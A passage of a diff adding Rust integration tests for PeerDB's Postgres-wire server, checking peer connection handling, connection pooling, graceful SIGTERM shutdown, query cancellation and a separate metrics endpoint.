+            "CREATE PEER IF NOT EXISTS pg_test_other FROM POSTGRES WITH
+            (host = '{}', port = '{}', user = '{}', password = '{}', database = '{}');",
+            env("PEERDB_CATALOG_HOST"),
+            env("PEERDB_CATALOG_PORT"),
+            env("PEERDB_CATALOG_USER"),
+            env("PEERDB_CATALOG_PASSWORD"),
+            env("PEERDB_CATALOG_DATABASE"),
+        ))
+        .expect("failed to create the second peer");
+    let pid_query = |peer: &str| {
+        format!(
+            "SELECT pg_backend_pid() FROM {}.pg_catalog.pg_class LIMIT 1;",
+            peer
+        )
+    };
+
+    let pid = fetch_rows(&mut client, &pid_query("pg_test"));
+    assert_eq!(fetch_rows(&mut client, &pid_query("pg_test")), pid);
+    // querying another peer closes the connection to pg_test
+    fetch_rows(&mut client, &pid_query("pg_test_other"));
+    assert_ne!(fetch_rows(&mut client, &pid_query("pg_test")), pid);
+
+    thread::sleep(Duration::from_millis(500));
+    let mut catalog = connect_catalog();
+    let rows = catalog
+        .query(
+            "SELECT count(*) FROM pg_stat_activity WHERE pid = $1",
+            &[&pid[0][0].as_deref().unwrap().parse::<i32>().unwrap()],
+        )
+        .unwrap();
+    assert_eq!(rows[0].get::<_, i64>(0), 0);
+
+    client
+        .simple_query("DROP PEER pg_test_other;")
+        .expect("failed to drop the second peer");
+}
+
+#[test]
+#[ignore = "create peers needs flow api"]
+fn pooled_peer_connections_are_reused_across_sessions() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+    dotenvy::dotenv().ok();
+    let env = |name: &str| std::env::var(name).unwrap_or_else(|_| panic!("{} not set", name));
+    client
+        .simple_query(&format!(
+            "CREATE PEER IF NOT EXISTS pg_pooled FROM POSTGRES WITH
+            (host = '{}', port = '{}', user = '{}', password = '{}', database = '{}',
+            pool_min_size = '1', pool_max_size = '2', pool_idle_timeout = '60');",
+            env("PEERDB_CATALOG_HOST"),
+            env("PEERDB_CATALOG_PORT"),
+            env("PEERDB_CATALOG_USER"),
+            env("PEERDB_CATALOG_PASSWORD"),
+            env("PEERDB_CATALOG_DATABASE"),
+        ))
+        .expect("failed to create the pooled peer");
+    let pid_query = "SELECT pg_backend_pid() FROM pg_pooled.pg_catalog.pg_class LIMIT 1;";
+
+    let pid = fetch_rows(&mut client, pid_query);
+    // sessions open at once get connections of their own
+    let mut other = server.connect_dying();
+    assert_ne!(fetch_rows(&mut other, pid_query), pid);
+
+    // the connection of a closed session is handed to the next one
+    drop(client);
+    thread::sleep(Duration::from_millis(500));
+    let mut client = server.connect_dying();
+    assert_eq!(fetch_rows(&mut client, pid_query), pid);
+
+    client
+        .simple_query("DROP PEER pg_pooled;")
+        .expect("failed to drop the pooled peer");
+}
+
+#[test]
+fn sigterm_lets_running_queries_finish() {
+    let mut server = PeerDBServer::with_env(&[("PEERDB_SHUTDOWN_GRACE_SECS", "10")]);
+    let mut client = server.connect_dying();
+    let query = thread::spawn(move || client.simple_query("SELECT pg_sleep(2);").map(|_| ()));
+
+    thread::sleep(Duration::from_millis(500));
+    let terminated = Command::new("kill")
+        .args(["-TERM", &server.server.id().to_string()])
+        .status()
+        .expect("failed to run kill");
+    assert!(terminated.success());
+    thread::sleep(Duration::from_millis(200));
+    // the server stops accepting connections right away
+    assert!(Client::connect(
+        "host=localhost port=9900 password=peerdb user=peerdb",
+        NoTls
+    )
+    .is_err());
+
+    // and exits once the running query is answered and its client gone
+    query
+        .join()
+        .unwrap()
+        .expect("the running query should finish");
+    let status = server.server.wait().expect("failed to wait for the server");
+    assert!(status.success());
+}
+
+#[test]
+fn cancel_request_aborts_running_query() {
+    let server = PeerDBServer::new();
+    let mut client = server.connect_dying();
+
+    let cancel_token = client.cancel_token();
+    let canceller = thread::spawn(move || {
+        thread::sleep(Duration::from_millis(500));
+        cancel_token.cancel_query(NoTls)
+    });
+    let started = std::time::Instant::now();
+    let err = client
+        .simple_query("SELECT pg_sleep(10);")
+        .expect_err("the query should be canceled");
+    assert_eq!(err.code(), Some(&SqlState::QUERY_CANCELED));
+    assert!(started.elapsed() < Duration::from_secs(5));
+    canceller
+        .join()
+        .unwrap()
+        .expect("the cancel request should be sent");
+
+    // the cancel only applied to the running query
+    assert_eq!(
+        fetch_rows(&mut client, "SELECT 1;")[0][0].as_deref(),
+        Some("1")
+    );
+}
+
+#[test]
+fn metrics_are_served_apart_from_pgwire() {
+    let server = PeerDBServer::with_env(&[("PEERDB_METRICS_PORT", "9901")]);
+    let mut client = server.connect_dying();
+    fetch_rows(&mut client, "SELECT 1;");
+
+    let mut stream = TcpStream::connect("127.0.0.1:9901").expect("metrics should be served");
+    stream
+        .write_all(b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
+        .unwrap();
+    let mut response = String::new();
+    stream.read_to_string(&mut response).unwrap();
+    assert!(response.starts_with("HTTP/1.1 200"), "{}", response);
+    assert!(response.contains("nexus_queries_total{"), "{}", response);
+    assert!(response.contains("nexus_query_duration_seconds_bucket{"));
+    // the client above is still connected
+    assert!(
+        response.contains("nexus_active_connections 1"),
+        "{}",
+        response
+    );
+}